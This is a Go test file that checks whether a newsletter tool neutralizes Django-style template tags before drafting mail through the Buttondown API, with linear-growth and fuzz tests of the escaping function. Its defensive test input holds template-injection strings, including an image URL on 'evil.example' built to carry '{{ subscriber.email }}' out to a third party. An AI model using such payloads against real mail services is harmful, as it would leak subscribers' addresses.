package buttondown

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"galley/internal/growthtest"
	"galley/internal/mail"
	"galley/internal/mail/mailtest"
	"galley/internal/site/plaintext"
)

// template is what Django's templates begin with.
var template = regexp.MustCompile(`\{[{%#]`)

// A mail's templates are no templates at the service: readers see what the post's
// page shows, and nothing of what the service knows of them goes anywhere.
func TestTemplatesAreText(t *testing.T) {
	const tags = "{{ subscriber.email }} {{{ x }}} {% if x %} {# y #} {{%{#"
	written := strings.ReplaceAll(tags, "{", "&#123;")
	m, err := mail.Make(mail.Post{
		Subject: "News: " + tags, Preview: tags, Title: tags, Address: "https://news.example/{{x}}/",
		Content: []byte(`<p title="` + written + `">` + written + `</p><pre><code>{{ .Values.name }}</code></pre>
<p>` + tags + `</p><img alt="" src="https://evil.example/p.png?e=&#123;&#123;subscriber.email}}"><a href="//evil.example/{%25if%25}#{{x}}" {{x}}>a</a>
<style>@media (max-width: 9px){{#a{color:red}}</style><!--[if mso]>{{ x }}<![endif]--><svg><style>{{ x }}</style><title>{{ x }}</title></svg><xmp>{{ x }}</xmp>{`),
	})
	if err != nil {
		t.Fatal(err)
	}
	e := &mailtest.Buttondown{Key: "k"}
	server := httptest.NewServer(e)
	t.Cleanup(server.Close)
	s := &Service{API: server.URL + "/v1", Key: e.Key, Client: &http.Client{}}
	if _, err := s.Draft(t.Context(), mail.Draft{Key: "a.md", Address: "https://news.example/{{x}}/", Mail: m}); err != nil {
		t.Fatal(err)
	}
	sent := e.Mails()[0]
	for _, field := range []string{"subject", "description", "body", "canonical_url"} {
		if at := template.FindStringIndex(fmt.Sprint(sent[field])); at != nil {
			t.Errorf("%s has a template: %s", field, fmt.Sprint(sent[field])[max(at[0]-80, 0):])
		}
	}
	if got := strings.ReplaceAll(fmt.Sprint(sent["subject"]), wordJoiner, ""); got != "News: "+tags {
		t.Errorf("the subject is %q", got)
	}
	shown := plaintext.Words(fmt.Sprint(sent["body"]))
	if strings.Count(shown, tags) < 3 || !strings.Contains(shown, "{{ .Values.name }}") {
		t.Errorf("the body shows %q", shown)
	}
}

func TestPlainHTMLProportional(t *testing.T) {
	for _, part := range []string{"{", "<!--{", "<style>{", "<p {"} {
		growthtest.Linear(t, 160_000, func(n int) func() {
			text := strings.Repeat(part, n)
			return func() { plainHTML(text) }
		})
	}
}

// What is shown is the same, whatever the HTML is.
func FuzzPlainHTML(f *testing.F) {
	for _, text := range []string{"{{ a }}", "<p a='{{'>{%</p>", "<style>a{{#b{}}</style>", "<!--{{-->{#", "<svg><style>{{", "<title>{{</title>", "<{{"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := plainHTML(text)
		if template.MatchString(got) {
			t.Errorf("%q is %q", text, got)
		}
		if strings.ContainsAny(text, "<&\r\x00") {
			return
		}
		if html.UnescapeString(got) != text {
			t.Errorf("%q shows %q", text, html.UnescapeString(got))
		}
	})
}
